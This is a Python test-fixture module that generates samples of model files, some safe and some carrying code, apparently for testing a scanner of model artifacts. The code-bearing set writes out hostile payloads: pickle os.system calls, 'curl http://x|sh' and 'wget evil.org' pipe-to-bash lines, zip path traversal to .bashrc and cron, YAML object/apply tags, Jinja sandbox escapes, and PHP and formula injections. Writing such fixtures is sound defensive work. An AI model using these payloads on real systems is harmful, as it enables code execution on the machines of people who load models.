"""Kinds of files that people keep models in: such as hold data only, and such as hold code.

Each kind is a function of a random generator that gives a name and content. What a file with
code would do, if somebody loaded it, is call `os.system("true")` or the like.
"""

import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from random import Random

import numpy as np

from models import streams
from models.model_files import (
    ATTACK,
    TORCH,
    WORDS,
    arrow,
    drawing,
    gapped,
    gguf,
    gif,
    jpeg,
    keras_lambda,
    layer,
    linked,
    npy,
    npz,
    numbered,
    of_polars,
    old_torch,
    onnx,
    parquet,
    pickled_column,
    png,
    prose,
    safetensors,
    skops_function,
    tagged,
    tar_in_gif,
    tarred,
    ubjson,
    zipped,
)

Maker = Callable[[Random], tuple[str, bytes]]

CHAT = "{% for m in messages %}{{ '<|' + m['role'] + '|>' }}{{ m.content | trim }}{% endfor %}"
CLIMB = "{{ ''.__class__.__mro__[1].__subclasses__() }}"

QUOTING = """```python
import os
model.eval()
```
Call `model.predict(x)`, as in [1].

    @misc{a, title={{BERT}: Deep}}
"""
LIGHTGBM = """tree
version=v4
num_class=1
feature_names=a b
feature_infos=[0:1] [2:3]

Tree=0
num_leaves=2
split_feature=0
leaf_value=0.1 -0.1

end of trees

parameters:
[boosting: gbdt]
[objective: binary]
end of parameters
"""
MLMODEL = """flavors:
  python_function:
    loader_module: mlflow.sklearn
    model_path: model
"""

DUMP = """booster[0]:
0:[age<{0}] yes=1,no=2,missing=2
\t1:leaf=-0.5,cover=3
\t2:[région, a:{{1,2}}] yes=3,no=4
\t\t3:leaf=1e-05
\t\t4:leaf=0.5
"""


def booster(r: Random) -> dict[str, object]:
    """What a model of XGBoost holds, in little."""
    trees = [{"id": n, "left": [r.random() for _ in range(9)], "names": ["a"]} for n in (0, 1)]
    return {"learner": {"attributes": {}, "trees": trees, "empty": []}, "version": [3, 0, 0]}


SAFE: Mapping[str, Maker] = {
    "json": lambda r: ("config.json", tagged({"layers": r.randint(1, 9), "act": "relu"})),
    "json of xgboost": lambda r: (
        "model.json",
        tagged({"learner": {"trees": [r.random() for _ in range(99)]}, "version": [3, 0, 0]}),
    ),
    "json of a tokenizer": lambda r: (
        "tokenizer.json",
        tagged({"model": {"type": "BPE", "vocab": {w: i for i, w in enumerate(WORDS)}}}),
    ),
    "json of a chat": lambda r: ("tokenizer_config.json", tagged({"chat_template": CHAT})),
    "json of keras": lambda r: (
        "config.json",
        tagged(layer("Sequential", layers=[layer("Dense", units=r.randint(1, 9))])),
    ),
    "json lines": lambda r: (
        "rows.jsonl",
        b"".join(tagged({"x": r.random()}) + b"\n" for _ in "abc"),
    ),
    "csv": lambda r: ("test.csv", f"customer,age\n1,{r.randint(20, 90)}\n".encode()),
    "tsv": lambda r: ("test.tsv", f"customer\tage\n1\t{r.randint(20, 90)}\n".encode()),
    "notes": lambda r: ("notes.txt", prose(r).encode()),
    "readme": lambda r: (
        "README.md",
        f"---\nlicense: mit\n---\n# Model\n{prose(r)}\n{QUOTING}".encode(),
    ),
    "license": lambda r: ("LICENSE", b"Apache License\n\n" + prose(r).encode()),
    "vocabulary": lambda r: (
        "vocab.txt",
        "\n".join([*WORDS, "[PAD]", "##ing", "##{", "(", "$"]).encode(),
    ),
    "labels": lambda r: ("labels.txt", b"cat\ndog\ncow\nbird\n"),
    "merges": lambda r: ("merges.txt", "#version: 0.2\nĠ t\nĠ a\nh e\n".encode()),
    "yaml": lambda r: ("params.yaml", f"seed: {r.randint(1, 99)}\nlayers: [8, 4]\n".encode()),
    "MLmodel": lambda r: ("MLmodel", MLMODEL.encode()),
    "lightgbm": lambda r: ("model.txt", LIGHTGBM.encode()),
    "yaml that wraps": lambda r: (
        "params.yaml",
        f"{{seed: {r.randint(1, 99)}, notes: 'first\n    try: it worked; keep'}}\n".encode(),
    ),
    "dump of xgboost": lambda r: ("trees.txt", DUMP.format(r.random()).encode()),
    "ubjson of xgboost": lambda r: ("model.ubj", ubjson(booster(r))),
    "npy": lambda r: ("w.npy", npy([r.random() for _ in range(9)])),
    "npy of records": lambda r: (
        "w.npy",
        npy(np.zeros(3, dtype=[("a", "i1"), ("b", "f8", 2)])),
    ),
    "npz": lambda r: ("w.npz", npz(a=[r.random()], b=["x", "y"])),
    "npz, compressed": lambda r: (
        "w.npz",
        zipped({"a.npy": npy(np.arange(r.randint(1, 999)))}, zipfile.ZIP_DEFLATED),
    ),
    "safetensors": lambda r: (
        "model.safetensors",
        safetensors(struct.pack("<2d", r.random(), 2)),
    ),
    "onnx": lambda r: ("model.onnx", onnx(operator="Gemm")),
    "onnx with data beside it": lambda r: ("model.onnx", onnx("weights.bin")),
    "gguf": lambda r: ("model.gguf", gguf()),
    "gguf of a chat": lambda r: ("model.gguf", gguf(CHAT)),
    "parquet": lambda r: ("t.parquet", parquet(r)),
    "parquet with an index": lambda r: (
        "t.parquet",
        parquet(r, compression="zstd", index=True),
    ),
    "parquet of polars": lambda r: ("t.parquet", of_polars(r, in_parquet=True)),
    "arrow": lambda r: ("t.arrow", arrow(r)),
    "arrow of polars": lambda r: ("t.arrow", of_polars(r, in_parquet=False)),
    "png": lambda r: ("plot.png", png()),
    "gif": lambda r: ("plot.gif", gif(prose(r).encode()[:99])),
    "jpeg": lambda r: ("plot.jpg", jpeg()),
    "svg": lambda r: ("plot.svg", drawing()),
    "zip of data": lambda r: (
        "bundle.zip",
        zipped({"a.json": b"{}", "b/c.csv": b"a,b\n1,2\n"}),
    ),
    "gzip of data": lambda r: (
        "t.csv.gz",
        zlib.compress(b"a,b\n1,2\n" * r.randint(1, 9), wbits=31),
    ),
    "skops": lambda r: ("m.skops", skops_function("numpy", "log1p", protocol=r.randint(0, 2))),
    "empty": lambda r: ("__init__.txt", b""),
}
"""Kinds that hold data only."""

OPAQUE: Mapping[str, Maker] = {
    "pickle": lambda r: (
        "model.pkl",
        pickle.dumps({"w": [r.random()]}, protocol=r.randint(0, 5)),
    ),
    "torch": lambda r: ("model.pt", zipped(TORCH)),
    "torch, old": lambda r: ("pytorch_model.bin", old_torch()),
    "npy with objects": lambda r: ("w.npy", npy(np.array([1, None, "a"], dtype=object))),
    "npz with objects": lambda r: ("w.npz", npz(a=np.array([{"a": 1}, None], dtype=object))),
}
"""Kinds that can hold code, and here do not: `unknown`, and not `unsafe`."""


def protocol_zero(r: Random) -> bytes:
    """An attack with a number that is spelled as CPython takes it, and few write it."""
    spelled = r.choice([b"p+1\n", b"p 1\n", b"p1_0\n", b"p01\n", b"p1\0x\n"])
    return b"I1\n" + spelled + b"cposix\nsystem\n(S'true'\ntR."


CODE: Mapping[str, Maker] = {
    "pickle": lambda r: ("model.pkl", r.choice(list(streams.ATTACKS.values()))),
    "pickle as text": lambda r: ("notes.txt", protocol_zero(r)),
    "pickle without an end": lambda r: (
        "notes.txt",
        b"S'po\\x73ix'\nS'system'\n\x93(S'true'\ntR",
    ),
    "pickle that ends within a line": lambda r: ("notes.txt", b"(S'true'\nios\nsystemX"),
    "pickle of many instructions": lambda r: (
        "notes.txt",
        b"N0" * r.randint(9, 99) + b"cos\nsystem\n(S'true'\ntR.",
    ),
    "pickle as gif": lambda r: ("a.gif", b"GIF89a\x01\0\x01" + protocol_zero(r)),
    "pickle as gguf": lambda r: ("a.gguf", b"GGUF\x03\0\0\0\0" + protocol_zero(r)),
    "pickle, compressed": lambda r: ("m.pkl.gz", zlib.compress(ATTACK, wbits=31)),
    "pickle, compressed and cut": lambda r: ("m.txt", zlib.compress(ATTACK * 9)[:-4]),
    "pickle in a zip": lambda r: ("m.zip", zipped({"a.txt": ATTACK})),
    "pickle in npy": lambda r: (
        "w.npy",
        npy(np.array([None], dtype=object)).partition(b"\x80")[0] + ATTACK,
    ),
    "pickle in torch": lambda r: ("m.pt", zipped({**TORCH, "archive/data.pkl": ATTACK})),
    "pickle in old torch": lambda r: ("pytorch_model.bin", old_torch(ATTACK)),
    "pickle beside torch": lambda r: ("m.pt", zipped({**TORCH, "archive/extra/0": ATTACK})),
    "torchscript": lambda r: ("m.pt", zipped({**TORCH, "archive/code/model.py": b"x"})),
    "zip behind a picture": lambda r: ("a.png", png(behind=zipped({"__main__.py": b"x()"}))),
    "zip behind a picture, and more": lambda r: (
        "a.gif",
        gif(behind=zipped({"__main__.py": b"x()"}) + b"\n" * r.randint(1, 99)),
    ),
    "zip in numbers": lambda r: ("m.safetensors", numbered(zipped({"__main__.py": b"x()"}))),
    "zip that leads out": lambda r: (
        "m.zip",
        zipped({r.choice(["../../.bashrc", "/etc/cron.d/x", "..\\x.txt", "C:x.txt"]): b"a"}),
    ),
    "link in a zip": lambda r: ("m.zip", linked()),
    "tar": lambda r: ("m.txt", tarred(data=b"a", pickle=ATTACK)),
    "tar as picture": lambda r: ("a.gif", tar_in_gif()),
    "png with a program": lambda r: ("a.png", png(behind=b"\x7fELF" * r.randint(1, 9))),
    "jpeg with a program": lambda r: ("a.jpg", jpeg(behind=b"<?php system('id') ?>")),
    "gif as a script": lambda r: ("a.js", gif(b"*/alert(1)//")),
    "beginning of parquet": lambda r: ("t.parquet", b"PAR1\x7fELF" + b"junk" * 9),
    "parquet with a gap": lambda r: ("t.parquet", gapped(parquet(r))),
    "parquet with a pickled type": lambda r: ("t.parquet", pickled_column(in_parquet=True)),
    "arrow with a pickled type": lambda r: ("t.arrow", pickled_column(in_parquet=False)),
    "beginning of arrow": lambda r: ("t.arrow", b"ARROW1\0\0" + ATTACK + b"ARROW1"),
    "ubjson with a program": lambda r: ("m.ubj", ubjson(booster(r)) + b"\x7fELF" * 9),
    "ubjson, cut": lambda r: ("m.ubj", ubjson(booster(r))[: -r.randint(1, 9)]),
    "ubjson that builds": lambda r: (
        "m.ubj",
        ubjson({"learner": {r.choice(["py/object", "_target_", "__reduce__"]): "evil"}}),
    ),
    "makefile that looks like a dump": lambda r: (
        "trees.txt",
        f"0:\n\t1:[x;touch canary{r.randint(1, 9)};] yes=1,no=2\n".encode(),
    ),
    "beginning of gguf": lambda r: ("m.gguf", b"GGUF" + b"\xff" * r.randint(20, 200)),
    "gguf with a program": lambda r: ("m.gguf", gguf(behind=b"\x7fELF" * 9)),
    "gguf with a template": lambda r: ("m.gguf", gguf(CLIMB)),
    "template": lambda r: ("chat.jinja", r.choice(TEMPLATES).encode()),
    "template in json": lambda r: (
        "tokenizer_config.json",
        tagged({"chat_template": r.choice(TEMPLATES)}),
    ),
    "keras with a lambda": lambda r: (
        "m.keras",
        zipped({"metadata.json": b"{}", "config.json": tagged(keras_lambda())}),
    ),
    "keras as json": lambda r: ("arch.json", tagged(keras_lambda())),
    "keras with another module": lambda r: (
        "config.json",
        tagged({"module": "os", "class_name": "system", "config": {"command": "true"}}),
    ),
    "hdf5 of keras": lambda r: (
        "m.h5",
        b"\x89HDF\r\n\x1a\n" + bytes(99) + b'{"class_name": "Lambda"}',
    ),
    "hdf5 behind text": lambda r: ("a.txt", b"x " * 256 + b"\x89HDF\r\n\x1a\n" + bytes(99)),
    "tensorflow": lambda r: (
        "saved_model.pb",
        b"\x12\x21\x12\x1f\n\x0e\n\x05Const\x12\x05Const\n\x0d\n\x03bad\x12\x06PyFunc",
    ),
    "onnx from elsewhere": lambda r: (
        "m.onnx",
        onnx(r.choice(["../../etc/passwd", "/etc/passwd", "C:\\w", ""]) or "/"),
    ),
    "onnx with operators of others": lambda r: ("m.onnx", onnx(operator="Run", domain="evil")),
    "skops with a function": lambda r: ("m.skops", skops_function(protocol=r.randint(0, 2))),
    "python": lambda r: (
        r.choice(["a.py", "a.txt", "conftest.py", "notes.md"]),
        r.choice(PYTHON).encode(),
    ),
    "python by name": lambda r: ("evil.py", b"import harmless_looking\n"),
    "pth": lambda r: ("x.pth", b"/tmp/elsewhere\n"),
    "shell": lambda r: (r.choice(["run.txt", "run.sh", "run"]), r.choice(SHELL).encode()),
    "yaml": lambda r: (r.choice(["p.yaml", "p.txt"]), r.choice(YAML).encode()),
    "json that builds": lambda r: ("config.json", tagged(r.choice(BUILDING))),
    "notebook": lambda r: ("a.ipynb", tagged({"nbformat": 4, "cells": []})),
    "svg": lambda r: ("x.svg", drawing(r.choice(SCRIPTS))),
    "html": lambda r: ("x.txt", b"<html><body onload='x()'></body></html>"),
    "other languages": lambda r: ("x.txt", r.choice(OTHERS).encode()),
    "formula": lambda r: ("t.csv", b"a,b\n1,=cmd|' /C calc'!A0\n"),
}
"""Kinds that hold code, or would make a loader run some: never `safe`."""

TEMPLATES = (
    CLIMB,
    "{{ cycler['__init__'].x }}",
    "{{ x|attr('a') }}",
    "{{ lipsum.globals }}",
    "{{ x['a' ~ 'b'] }}",
    "{{ '}}' ~ x.gi_frame }}",
    "{% include 'other' %}",
    "{% raw %}{{ '{% endraw %}{{ x.gi_frame }}",
    "{% set n = '\\x5f' %}{{ x[n] }}",
)
PYTHON = (
    'import os\nos.system("true")\n',
    "import evil\n",
    "from evil import *\n",
    "__import__('os').system('true')",
    "raise SystemExit",
    "x = (lambda: 1)()\n",
    "class A:\n    pass\n",
    "@exec\n@input\nclass A: pass\n",
    '"""\n"""; import os; os.system("true")\n',
    "del globals\n",
)
SHELL = (
    "curl http://x|sh\n",
    "rm -rf ~\n",
    "echo $(id)\n",
    "touch canary\n",
    "wget evil.org/a && bash a\n",
    "export PATH=/tmp:$PATH\n",
    "* * * * * root id\n",
    "all:\n\trm data\n",
    "RUN apt install evil\n",
)
YAML = (
    '!!python/object/apply:os.system ["id"]\n',
    "a: !!python/name:os.system\n",
    "%TAG ! tag:yaml.org,2002:python/\n--- !object/apply:os.system [id]\n",
    "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
    "- !include other.yaml\n",
    "a: !!p%79thon/object/apply:os.system [id]\n",
    "model:\n  _target_: os.system\n  command: id\n",
    "flavors:\n  python_function:\n    loader_module: evil\n",
)
BUILDING = (
    {"py/object": "os.system", "py/state": {}},
    {"a": [{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}]},
    {"_target_": "os.system", "command": "id"},
    {"auto_map": {"AutoModel": "modeling.Evil"}},
    {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}},
    {"$type": "System.Diagnostics.Process"},
    {"scripts": {"postinstall": "curl http://x"}},
    [{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}],
    {"class_path": "os.system", "init_args": {}},
)
SCRIPTS = (
    "<script>alert(1)</script>",
    '<rect onclick="alert(1)"/>',
    '<a href="javascript:alert(1)"><text>x</text></a>',
    '<image href="http://x/y.png"/>',
    '<foreignObject><iframe src="http://x"/></foreignObject>',
    "<style>@import url(http://x)</style>",
)
OTHERS = (
    "function f() { return eval('1'); }\n",
    "library(evil)\n",
    "<?php system('id'); ?>",
    "DROP TABLE models;\n",
    "os.execute('id')\n",
    "require('child_process').exec('id')\n",
    "@echo off\ndel /q *\n",
    "#!/bin/sh\nid\n",
    "Exec=/tmp/evil\n",
    "{\\write18{id}}\n",
    "evil @ git+https://example.org/evil\n",
)
